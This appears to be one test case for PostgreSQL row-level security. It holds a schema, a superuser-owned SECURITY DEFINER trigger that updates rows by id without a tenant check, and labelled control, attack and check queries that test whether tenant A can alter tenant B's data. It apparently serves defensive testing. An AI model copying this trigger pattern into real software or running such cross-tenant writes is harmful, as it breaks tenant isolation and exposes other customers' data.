-- What: The foreign key of the row carries the tenant: the definer trigger updates its own tenants row.
-- Exploit: Write rows of A's own that name B's.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
alter table items add unique (tenant_id, id);
create table notes (id bigint generated always as identity primary key, tenant_id uuid not null, item_id bigint not null, note text);
alter table notes enable row level security;
alter table notes force row level security;
create policy tenant on notes using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on notes to app_user;
alter table notes add foreign key (tenant_id, item_id) references items (tenant_id, id);
-- @superuser
create function touch() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  update public.items set body = body || '!' where id = new.item_id;
  return new;
end $$;
create trigger touch after insert on notes for each row execute function touch();
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @control
select from items where tenant_id = :'A';
-- @attack
insert into notes (tenant_id, item_id) values (:'A', 1);
-- @look
select from items where tenant_id = :'B' and body <> 'B-secret';
